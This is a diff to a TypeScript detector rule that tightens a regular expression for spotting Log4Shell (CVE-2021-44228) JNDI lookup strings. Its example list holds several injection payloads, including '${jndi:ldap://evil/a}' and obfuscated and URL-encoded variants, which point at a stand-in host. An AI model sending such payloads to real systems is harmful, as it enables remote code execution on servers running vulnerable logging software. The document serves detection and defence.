@@ -11,7 +11,7 @@ export const detector: Detector = {
   findings: [
     {
       id: "jndi", why: "A look-up in a directory is asked for, which loads foreign code (CVE-2021-44228).", over: "text", score: 8,
-      pattern: /\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|\$)|[$]\{?\s*\{?\s*jndi\b|%\{jndi:/i,
+      pattern: /jndi\s*:\s*(?:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)\s*:|\$)|[$]\{?\s*\{?\s*jndi\b|%\{jndi:/i,
       examples: ["${jndi:ldap://evil/a}", "${::-$}{jndi:dns://x}", "$%7Bjndi:rmi://x}"],
       counterExamples: ["JNDI: a directory service", "jndi.properties"],
     },
